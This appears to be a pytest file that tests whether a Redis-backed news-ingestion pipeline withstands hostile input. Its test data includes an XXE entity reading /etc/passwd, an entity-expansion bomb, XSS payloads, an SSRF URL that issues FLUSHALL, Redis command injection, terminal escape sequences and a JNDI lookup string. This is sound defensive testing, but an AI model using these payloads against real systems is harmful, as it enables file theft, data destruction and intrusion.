"""What somebody might put on ``ingest`` to do harm: it ends, soon, with a reason or as an article like any other.

Afterwards the very same workers still run, no larger than before, and take the next article.
"""

import asyncio
import time
from collections.abc import AsyncIterator
from pathlib import Path

import orjson
import pytest
import pytest_asyncio

from shared import topology
from tests.flow.pipeline import Pipeline, running

pytestmark = [pytest.mark.flow, pytest.mark.asyncio(loop_scope="module")]

SOON = 100
"""seconds within which everything here must have ended, on a slow machine that does other things as well"""
GROWTH = 400_000_000
"""bytes that all workers together may grow by: a page of megabytes passes through each of them"""

STORY = "The tide mill at Orne turned again on Monday, miller Edda Fenholm said. "

REFUSED: dict[str, tuple[dict[str, bytes | str], str]] = {
    "JSON nested a hundred thousand times": ({"data": '{"text":' + "[" * 100_000}, "deep"),
    "objects nested a thousand times": ({"data": '{"a":' * 1_000 + "1" + "}" * 1_000}, "deep"),
    "JSON in JSON in JSON": ({"data": orjson.dumps(orjson.dumps(orjson.dumps("x").decode()).decode())}, "object"),
    "a number of a million digits": ({"data": '{"text": ' + "9" * 1_000_000 + "}"}, "number"),
    "a text of ten million characters": ({"text": STORY * 140_000}, "characters"),
    "a field of sixteen million bytes": ({"html": b"<p>" + b"x" * 16_000_000}, "bytes"),
    "HTML nested fifty thousand times": ({"html": "<div>" * 50_000 + f"<p>{STORY}</p>"}, "no text"),
    "a title of a million characters": ({"title": "T" * 1_000_000, "text": STORY}, "characters"),
}

SURVIVES: dict[str, dict[str, bytes | str]] = {
    "ten thousand fields": {**{f"field{n}": "x" for n in range(10_000)}, "text": STORY + "One."},
    "a hundred thousand keys": {"data": orjson.dumps({**{f"k{n}": n for n in range(100_000)}, "text": STORY + "Two."})},
    "a hundred thousand unclosed links": {"html": f"<p>{STORY}Four.</p>" + "<a href='x'>" * 100_000},
    "entities that multiply": {
        "html": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' + f"<p>{STORY}Five. &c;</p>"
    },
    "an entity that reads a file": {
        "html": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>{STORY}Six. &e;</p>'
    },
    "a script and an image with one": {
        "html": f"<p>{STORY}Seven.</p><script>alert(1)</script><img src=x onerror=alert(1)>",
        "title": "<b onmouseover=alert(1)>Tide mill</b>",
    },
    "four hundred thousand spaces": {"text": STORY + "Eight." + " " * 400_000 + "End."},
    "four hundred thousand capitals": {"text": STORY + "Nine. " + "A" * 400_000},
    "two hundred thousand opening brackets": {"text": STORY + "Ten. " + "([{" * 70_000},
    "two hundred thousand quotation marks": {"text": STORY + "Eleven. " + '\u201c" ' * 70_000},
    "a hundred thousand short lines": {"text": STORY + "Twelve.\n" + "a\n" * 100_000},
    "ten thousand figures and dates": {"text": STORY + "Thirteen. " + "12 March 2021, 4,000 people; " * 5_000},
    "five thousand dated sentences": {"text": STORY + "Twenty-one. " + "On 12 March 2021 12 died. " * 5_000},
    "ten thousand names": {
        "text": STORY + "Twenty-two. " + " ".join(f"Ann Bel{chr(97 + n % 26)}{n} spoke." for n in range(10_000))
    },
    "a word of combining marks": {"text": STORY + "Fourteen. e" + "\u0301" * 100_000},
    "a web address of a hundred thousand characters": {
        "text": STORY + "Fifteen.",
        "url": "https://a.example/" + "x/" * 50_000,
    },
    "an address inside": {"text": STORY + "Sixteen.", "url": "http://127.0.0.1:6379/FLUSHALL"},
    "escape sequences everywhere": {
        "title": "\x1b[2J\x1b]0;owned\x07Tide mill",
        "text": f"\x1b[31m{STORY}\x1b[0m\x9b2J Seventeen.",
        "publisher": "\x1b[8mPost",
    },
    "Lua and Redis commands": {
        "text": STORY + "Eighteen. ' .. redis.call('FLUSHALL') .. '\r\nFLUSHALL\r\n",
        "id": "a\r\nFLUSHALL\r\n",
    },
    "keys of the pipeline as ids": {"text": STORY + "Nineteen.", "id": "dedup:texts", "url": "trace:1-0"},
    "percent signs and templates": {"text": STORY + "Twenty. %s %n {0} {{7*7}} ${jndi:ldap://x.example/a} %(x)s"},
}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def pipeline(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Pipeline]:
    folder = tmp_path_factory.mktemp("hostile")
    async with running(folder, claim_after=60, log_level="DEBUG", log_format="json") as pipeline:
        # Models are loaded by the first article; what follows is measured against workers that have seen one.
        assert (await pipeline.end(await pipeline.publish({"text": STORY})))[0] == "story"
        yield pipeline


def resident(pipeline: Pipeline) -> int:
    """Return the bytes that all workers hold in memory; one that has ended raises."""
    return sum(
        int(Path(f"/proc/{process.pid}/statm").read_text(encoding="ascii").split()[1]) * 4096
        for process in pipeline.processes.values()
    )


async def put(pipeline: Pipeline, fields: dict[str, bytes | str]) -> tuple[str, str]:
    """Publish ``fields`` as they are; return how the article ended, and what was said of it."""
    begun = time.monotonic()
    entry = (await pipeline.redis.xadd(topology.INGEST, fields)).decode()
    end, step = await pipeline.end(entry)
    assert time.monotonic() - begun < SOON
    return end, step.get("note", "")


@pytest.mark.parametrize("case", REFUSED)
async def test_what_is_too_large_or_too_deep_is_refused_with_a_reason(pipeline: Pipeline, case: str) -> None:
    fields, reason = REFUSED[case]
    end, note = await put(pipeline, fields)
    assert end == "dead"
    assert reason in note
    assert len(note) < 500


@pytest.mark.parametrize("case", SURVIVES)
async def test_what_is_only_strange_is_handled_soon(pipeline: Pipeline, case: str) -> None:
    before = resident(pipeline)
    assert (await put(pipeline, SURVIVES[case]))[0] in {"story", "dropped"}
    assert resident(pipeline) - before < GROWTH


async def test_what_files_say_is_not_read_into_an_article(pipeline: Pipeline) -> None:
    await put(pipeline, SURVIVES["an entity that reads a file"])
    stories = await pipeline.redis.xrange(topology.STORIES)
    assert stories
    assert not any(b"root:" in fields[b"data"] for _, fields in stories)


async def test_no_log_line_holds_a_character_that_steers(pipeline: Pipeline) -> None:
    await put(pipeline, SURVIVES["escape sequences everywhere"])
    await put(pipeline, {"data": "\x1b[2J{not json \x9b2J"})
    lines = [line for name in pipeline.processes for line in (pipeline.logs / f"{name}.log").read_bytes().splitlines()]
    assert any(b'"message"' in line for line in lines)
    steering = {*range(0x20), *range(0x7F, 0xA0)}
    for line in lines:
        assert not steering & {ord(character) for character in line.decode()}


async def test_log_lines_name_article_and_story(pipeline: Pipeline) -> None:
    log = pipeline.logs / f"{topology.AGGREGATION.name}.log"
    await pipeline.redis.rename("agg:due", "aside")
    await pipeline.redis.set("agg:due", "where a sorted set should be")
    trace = await pipeline.publish({"text": "A beaver was seen at Orne, warden Ulla Brandt said on Saturday."})
    for _ in range(200):
        lines = [orjson.loads(line) for line in log.read_bytes().splitlines() if line.startswith(b"{")]
        told = [line for line in lines if line.get("trace") == trace and "failed" in line["message"]]
        if told:
            break
        await asyncio.sleep(0.05)
    await pipeline.redis.rename("aside", "agg:due")
    assert told[0]["article"]
    assert (await pipeline.end(trace))[1]["story"] == told[0]["story"]


async def test_afterwards_the_same_workers_take_the_next_article(pipeline: Pipeline) -> None:
    assert all(process.poll() is None for process in pipeline.processes.values())
    assert (await put(pipeline, {"text": "The ferry to Orne is back, Captain Oda Hult said."}))[0] == "story"
    assert await pipeline.redis.dbsize() > 100  # nobody has emptied the server
